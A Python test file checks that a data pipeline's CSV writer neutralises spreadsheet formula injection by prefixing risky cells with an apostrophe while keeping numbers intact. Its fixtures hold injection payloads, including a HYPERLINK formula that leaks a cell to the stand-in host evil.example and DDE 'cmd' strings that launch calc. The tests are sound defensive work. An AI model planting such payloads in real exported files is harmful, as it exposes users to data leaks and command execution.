"""CSV formula injection (issue 17, item 5): what write_csv writes is data in a spreadsheet, never a formula.

A text cell starting with = + - @ TAB or CR gets a leading apostrophe (OWASP); numbers, and text that
is a plain number such as "-1.5", are written as they are. The pipelines run in process as a run
runs them (import_from_local, read_table, write_csv) and the file is read back with the csv module.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from orchestrator.assets import ops
from orchestrator.assets.repository import CATALOG
from orchestrator.datasets import Predictions
from orchestrator.engine import RunContext, build_plan, execute

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(ctx: RunContext, rows: list[dict], name: str = "rows.jsonl") -> list[list[str]]:
    """write_csv(read_table(import_from_local(rows as JSON Lines))), read back with the csv module."""
    source = Path(ctx.resources.workspace.data_root) / name
    source.write_text("".join(json.dumps(row) + "\n" for row in rows))
    imported = {"operation": "import_from_local", "parameters": {"path": name}}
    table = {"operation": "read_table", "parameters": {"data": imported}}
    [files] = execute(build_plan([{"operation": "write_csv", "parameters": {"result": table}}], CATALOG), CATALOG, ctx)
    with files.files["output.csv"].open(newline="") as lines:
        return list(csv.reader(lines))


def test_cells_a_spreadsheet_would_run_are_written_as_text(ctx):
    cells = written(ctx, [{"name": f"row{i}", "comment": attack} for i, attack in enumerate(ATTACKS)])
    assert cells[0] == ["name", "comment"]
    assert [row[1] for row in cells[1:]] == ["'" + attack for attack in ATTACKS]


def test_numbers_are_kept(ctx):
    rows = [
        {"value": -1.5, "count": -3, "ratio": 0.25, "text": "-1.5"},
        {"value": 2e-7, "count": 4, "ratio": -0.0, "text": "+3"},
        {"value": -1e300, "count": 0, "ratio": 1, "text": "-2E-4"},
    ]
    cells = written(ctx, rows)
    assert cells[1:] == [["-1.5", "-3", "0.25", "-1.5"], ["2e-07", "4", "-0.0", "+3"], ["-1e+300", "0", "1.0", "-2E-4"]]
    # What a reader of the file gets back: the numbers themselves.
    assert float(cells[1][0]) == -1.5 and int(cells[1][1]) == -3


def test_text_that_only_looks_like_a_number_at_first_is_neutralised(ctx):
    cells = written(ctx, [{"a": "-1.5+A1", "b": "-", "c": "1-2", "d": "a=b", "e": "--1"}])
    assert cells[1] == ["'-1.5+A1", "'-", "1-2", "a=b", "'--1"]


def test_the_header_is_neutralised_too(ctx):
    cells = written(ctx, [{"=1+1": 1, "@x": "fine", "plain": "ok"}])
    assert cells == [["'=1+1", "'@x", "plain"], ["1", "fine", "ok"]]


def test_predictions_written_as_csv(ctx, tmp_path):
    """A model's labels are data too: a label that is a formula is written as text, its score as a number."""
    items = [{"name": "=cmd|' /C calc'!A0", "labels": ["@SUM(1+1)", "cat"], "scores": [-0.5, 0.25]}]
    predictions = Predictions("=evil", items, {}, tmp_path / "p.json")
    files = ops.write_csv(ctx, predictions, "predictions")
    with files.files["predictions.csv"].open(newline="") as lines:
        cells = list(csv.reader(lines))
    assert cells[0] == ["name", "model", "label", "score", "labels", "scores"]
    assert cells[1] == ["'=cmd|' /C calc'!A0", "'=evil", "'@SUM(1+1)", "-0.5", '["@SUM(1+1)", "cat"]', "[-0.5, 0.25]"]
